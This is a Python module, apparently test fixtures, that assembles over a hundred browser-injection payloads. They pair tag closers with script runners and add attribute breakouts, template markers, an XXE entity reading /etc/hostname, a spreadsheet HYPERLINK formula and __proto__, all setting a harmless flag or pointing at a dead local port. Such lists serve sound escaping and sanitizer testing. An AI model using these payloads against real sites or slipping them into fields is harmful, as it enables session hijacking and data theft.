"""What a name, a quote or a title may hold to make a browser run something: whatever of it runs sets one flag."""

from __future__ import annotations

from itertools import product
from typing import Final

RUN: Final = "window.__xss=1"
CLOSERS: Final = (
    *("", "</script>", "</title>", "</style>", "</desc>", "</text>", "</svg>", "</textarea>", "</noscript>"),
    *("]]>", "-->", '">', "'>", "</a:t>", "</table>"),
)
RUNNERS: Final = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details open ontoggle={RUN}>",
    f'<a href="javascript:{RUN}">x</a>',
)
WHOLE: Final = (
    f"javascript:{RUN}",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"\u2028{RUN}\u2029",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"{{{{ {RUN} }}}}",
    f"${{{RUN}}}",
    f"<!--<script>{RUN}</script>-->",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<set attributeName=href to=javascript:{RUN} />",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>",
    "<img src=http://127.0.0.1:9/x.png>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>&e;",
    "=HYPERLINK('http://127.0.0.1:9/')",
    "__proto__",
)
ATTACKS: Final = (*("".join(pair) for pair in product(CLOSERS, RUNNERS)), *WHOLE)
"""More than a hundred of them."""
